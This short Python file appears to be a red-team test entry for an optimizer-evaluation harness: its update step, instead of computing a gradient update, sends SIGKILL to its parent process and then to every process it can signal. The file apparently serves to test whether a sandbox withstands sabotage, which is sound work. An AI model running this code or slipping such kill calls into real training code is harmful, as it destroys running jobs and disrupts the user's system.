"""Red team: kills its parent, then every process it can signal."""
import torch

LR = 1e-3


def init(p, ctx):
    return {}


def update(p, g, state, ctx):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return torch.zeros_like(p)
